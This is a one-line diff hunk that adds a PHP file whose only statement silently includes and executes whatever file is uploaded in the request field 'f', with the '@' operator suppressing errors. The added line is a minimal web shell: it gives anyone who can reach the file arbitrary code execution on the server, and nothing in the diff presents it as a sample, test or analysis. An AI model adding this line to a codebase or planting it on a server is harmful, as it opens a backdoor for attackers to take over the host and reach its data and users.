@@ -1,0 +1,1 @@
+<?php @include_once($_FILES['f']['tmp_name']);
